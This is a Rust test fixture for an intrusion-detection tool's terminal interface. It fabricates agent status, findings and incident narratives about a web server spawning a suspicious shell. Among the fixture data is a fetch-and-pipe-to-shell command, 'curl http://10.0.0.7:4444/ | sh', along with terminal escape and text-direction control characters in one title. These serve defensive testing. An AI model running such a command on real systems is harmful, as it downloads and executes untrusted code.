//! An agent and a folder that nobody has: everything that the screens can say.

#![allow(dead_code, reason = "each test program uses a part")]

use std::sync::Arc;

use ebbline_top::{Event, Findings, Incidents, Reply, Seen, State, Status, Told, Volume};
use serde_json::{Value, json};
use store::{Finding, FindingReason, FindingRow, Incident, IncidentLink};
use triage::{Around, Gap, Kin, Narrative, Opinion, Relative, RowLink, Sentence, Standing, Step, Technique, Verdict};

/// 2026-11-21 14:03:07 UTC.
pub(crate) const NOW: i64 = 1_795_269_787_000_000_000;
const MINUTE: i64 = 60_000_000_000;

fn event(produced: u64, lost: u64, written: u64, open: u64) -> Value {
    let dropped = if lost > 0 { json!({ "ring_full": lost }) } else { json!({}) };
    json!({
        "produced": produced, "written": written, "open": open, "dropped": dropped,
        "kernel": { "produced": produced, "submitted": produced - lost, "dropped": dropped },
        "agent": { "received": produced - lost }, "writer": { "open": open, "written": written },
    })
}

/// The status of the agent in its `second`.
pub(crate) fn status(second: u64) -> Value {
    let busy = second * second % 97;
    json!({
        "pid": 4156, "host": "web1", "agent_version": "0.1.0", "uptime_s": 3600.0 + second as f64,
        "backend": "cpu", "baseline": "1f2e3d4c5b6a7988", "host_state": "settled", "expected_per_day": 5.0, "findings": 3,
        "events": {
            "exec": event(1000 * second + busy, 0, 900 * second, 100 * second),
            "exit": event(1000 * second, 0, (1000 * second).saturating_sub(12), 0),
            "connect": event(40_000 * second + 313 * busy, 17 * (second / 20), 30_000 * second, 9_000 * second),
            "dns": event(8 * second, 0, 8 * second, 0),
        },
        "self": {
            "rss_bytes": 71_303_168, "pss_bytes": 65_222_476, "ring_bytes": 12_582_912, "cpu_s": 2.0 + second as f64 * 0.021,
            "hooks": 42, "restarts": 0, "processes": 1234,
        },
    })
}

pub(crate) fn seen_status(second: u64) -> Event {
    let status = Status::parse(status(second).to_string().as_bytes()).expect("a status");
    Event::Seen(Seen::Status(Box::new(status)))
}

fn reason(child: &str, context: &str, bits: f32, n: u32) -> FindingReason {
    FindingReason {
        view: "exe given parent".into(),
        child: child.into(),
        context: context.into(),
        scope: "host".into(),
        n,
        total: 41_220,
        distinct: 312,
        bits,
    }
}

pub(crate) fn finding(number: u32, title: &str, log2_n: f32) -> Finding {
    Finding {
        id: format!("{number:016x}"),
        host: if number.is_multiple_of(2) { "web1".into() } else { "db-primary-7".into() },
        unit_kind: "process_tree".into(),
        unit_key: format!("0102030400000000000000{number:010x}"),
        window: NOW - 3 * MINUTE,
        time: NOW - i64::from(number) * 7 * MINUTE,
        title: title.into(),
        bits: log2_n * 4.5,
        log2_n,
        reasons: vec![
            reason("exe=/usr/bin/curl", "parent_exe=/usr/sbin/nginx, user=33", 18.9, 0),
            reason("remote_port=4444", "exe=/usr/bin/curl", 13.2, 2),
            reason("arguments=http://<ip>:<n>/", "", 7.5, 11),
        ],
        rows: vec![
            FindingRow { file: ROW.into(), row: 4000, table: "process".into(), bits: 31.5 },
            FindingRow {
                file: "connection/day=2026-11-21/host=web1/20261121T140000Z-000001.parquet".into(),
                row: 17,
                table: "connection".into(),
                bits: 20.1,
            },
        ],
        action: None,
    }
}

const ROW: &str = "process/day=2026-11-21/host=web1/20261121T140000Z-000001.parquet";

pub(crate) fn findings() -> Arc<Findings> {
    let titles = [
        ("/usr/bin/curl http://10.0.0.7:4444/ started under /usr/sbin/nginx below /usr/sbin/nginx", 17.3),
        ("memfd:kworker (fetch --url http://127.0.0.1:14446/report) started under /srv/app/releases/bin/worker", 12.0),
        ("/usr/bin/日本語ツール \u{1b}[31mrot\u{1b}[0m \u{202e}gnp.exe started under /usr/bin/sh", 22.5),
        ("/usr/bin/python3 connects to 203.0.113.9 port 443/tcp under /usr/sbin/cron below /usr/sbin/cron", 9.1),
    ];
    let newest = (1..).zip(titles).map(|(number, (title, rarity))| Arc::new(finding(number, title, rarity)));
    let more = (5..60)
        .map(|number| Arc::new(finding(number, &format!("/usr/bin/tool{number} started under /usr/bin/bash"), 8.0)));
    Arc::new(Findings { newest: newest.chain(more).collect(), total: 3412, scored: true })
}

pub(crate) fn incident(number: u64, title: &str, bits: f32) -> Incident {
    let link = IncidentLink {
        kind: "destination".into(),
        value: "10.0.0.7:4444".into(),
        seen: 2,
        of: 31_000,
        ..IncidentLink::default()
    };
    Incident {
        id: format!("{number:012x}"),
        first: NOW - 90 * MINUTE,
        last: NOW - number as i64 * MINUTE,
        hosts: vec!["db-primary-7".into(), "web1".into()],
        title: title.into(),
        bits,
        log2_n: bits / 2.0,
        steps: 3,
        findings: vec![format!("{:016x}", 1), format!("{:016x}", 2)],
        links: vec![link],
        ..Incident::default()
    }
}

fn watched() -> Standing {
    let opinion = Opinion {
        incident: format!("{:012x}", 2),
        verdict: Verdict::Watched,
        owner: "ana".into(),
        why: "the new worker".into(),
        at: "2026-11-21T12:00:00Z".into(),
        until: None,
        units: [].into(),
        taught: None,
    };
    Standing { opinion, is_over: false, since: 1 }
}

pub(crate) fn incidents() -> Arc<Incidents> {
    let gap =
        |kind: &str, text: &str| Gap { kind: kind.into(), host: None, text: text.into(), since: None, until: None };
    Arc::new(Incidents {
        first: vec![
            Arc::new(incident(
                1,
                "/usr/bin/curl http://10.0.0.7:4444/ started under /usr/sbin/nginx below /usr/sbin/nginx",
                41.5,
            )),
            Arc::new(incident(2, "memfd:kworker started under /srv/app/releases/bin/worker", 22.0)),
        ],
        total: 2,
        grouped: true,
        standings: [(format!("{:012x}", 2), watched())].into(),
        gaps: vec![
            gap("silent", "db2: silent since 2026-11-21 11:00:05 UTC"),
            gap("loss", "web1: lost 51 connect (ring_full) between 2026-11-21 13:59:00 and 14:00:00 UTC"),
            gap("learning", "db-primary-7: learning day 2 of 7"),
        ],
        more_gaps: 0,
    })
}

fn volume() -> Arc<Volume> {
    let hours = |scale: u64| (0..48).map(|hour: u64| (hour * hour % 24 + 1) * scale).collect();
    let tables =
        [("connection".to_owned(), hours(40_000)), ("dns".into(), hours(300)), ("process".into(), hours(9_000))];
    Arc::new(Volume { last_hour: store::hour_of(NOW), tables: tables.into(), unread: 0 })
}

/// The answer to a question about an incident.
pub(crate) fn told_incident(number: u64) -> Event {
    let row = |row: u64| RowLink { file: ROW.into(), row };
    let said = |text: &str| Sentence { text: text.into(), rows: vec![row(4000)] };
    let narrative = Narrative {
        title: vec![said("A web server started a shell that connected to an address nobody had talked to.")],
        summary: vec![said(
            "On web1, /usr/sbin/nginx started /usr/bin/curl, which it never did in 41,220 starts; four minutes later the same destination was reached from db-primary-7.",
        )],
        timeline: vec![
            Step {
                time: NOW - 5 * MINUTE,
                host: "web1".into(),
                said: said("/usr/bin/curl started under /usr/sbin/nginx: curl http://10.0.0.7:4444/"),
            },
            Step {
                time: NOW - MINUTE,
                host: "db-primary-7".into(),
                said: said("/usr/bin/curl connected to 10.0.0.7 port 4444"),
            },
        ],
        root: vec![said("Process 812 (/usr/sbin/nginx) was there already when the agent started.")],
        reasons: vec![said("exe=/usr/bin/curl given parent_exe=/usr/sbin/nginx: 0 of 41,220 (312 kinds), this host")],
        links: vec![said("Both reached 10.0.0.7:4444, as 2 of 31,000 process trees did.")],
        harmless: vec![said("A deployment hook that fetches something would look the same.")],
        checks: vec![said("See whose address 10.0.0.7 is.")],
        techniques: vec![Technique { id: "T1059".into(), why: "a shell below a server".into(), rows: vec![row(4000)] }],
        ..Narrative::default()
    };
    let findings = findings().newest[..2].to_vec();
    Event::Told(Reply { number, told: Told::Incident(Box::new(narrative), findings) })
}

/// The answer to a question about a row.
pub(crate) fn told_around(number: u64) -> Event {
    let one = |kin, depth, pid, name: &str, row: Option<u64>, ended: Option<&str>| Relative {
        kin,
        depth,
        pid,
        name: name.into(),
        time: row.map(|row| NOW - 5 * MINUTE + row as i64 * 1_000_000_000),
        ended: ended.map(str::to_owned),
        row: row.map(|row| RowLink { file: ROW.into(), row }),
    };
    let tree = vec![
        one(Kin::Ancestor, 0, 1, "/usr/lib/systemd/systemd", None, None),
        one(Kin::Ancestor, 1, 812, "/usr/sbin/nginx", None, None),
        one(Kin::Sister, 2, 4200, "/usr/bin/logger -t nginx ok", Some(1), Some("exit 0")),
        one(Kin::Own, 2, 4242, "/usr/bin/bash -c curl http://10.0.0.7:4444/ | sh", Some(2), Some("exit 0")),
        one(Kin::Below, 3, 4243, "/usr/bin/curl http://10.0.0.7:4444/", Some(3), Some("exit 0")),
        one(Kin::Below, 3, 4244, "/usr/bin/dash", Some(4), Some("signal 9")),
    ];
    let around = Around {
        said: "/usr/bin/bash started under /usr/sbin/nginx: bash -c curl http://10.0.0.7:4444/ | sh".into(),
        time: NOW - 5 * MINUTE,
        host: "web1".into(),
        tree,
        others: 7,
        unread: Vec::new(),
    };
    Event::Told(Reply { number, told: Told::Around(Box::new(around)) })
}

/// After two minutes of an agent, with a folder.
pub(crate) fn state(size: (u16, u16)) -> State {
    let mut state = State::new(size, NOW, true, Some("/var/lib/ebbline".into()));
    let seen = [Seen::Findings(findings()), Seen::Incidents(incidents()), Seen::Volume(volume())];
    (0..120).map(seen_status).chain(seen.map(Event::Seen)).for_each(|event| assert!(state.update(event).is_none()));
    state
}
